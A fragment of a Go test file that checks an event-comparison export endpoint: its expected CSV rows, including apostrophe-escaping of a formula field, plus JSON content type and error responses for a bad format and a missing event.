	want := [][]string{
		{"The main city", "true", id64(north.ID), "'" + formula, "Northburg", "2"},
		{"The main city", "true", id64(north.ID), "'" + formula, "Southville", "1"},
		{"The main city", "true", id64(south.ID), "South, Daily", "Southville", "1"},
	}
	for i, w := range want {
		l := lines[i+1]
		got := []string{l[1], l[4], l[5], l[6], l[7], l[9]}
		if strings.Join(got, "|") != strings.Join(w, "|") {
			t.Errorf("line %d = %q, want %q", i+1, got, w)
		}
	}
	if r := ts.get(eventPath(id) + "/comparison?format=json").wantStatus(http.StatusOK); !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
		t.Errorf("format=json Content-Type = %q", r.Header.Get("Content-Type"))
	}
	ts.get(eventPath(id)+"/comparison?format=xml").wantAPIError(http.StatusBadRequest, "format")
	ts.get("/api/events/999/comparison?format=csv").wantAPIError(http.StatusNotFound, "")
}
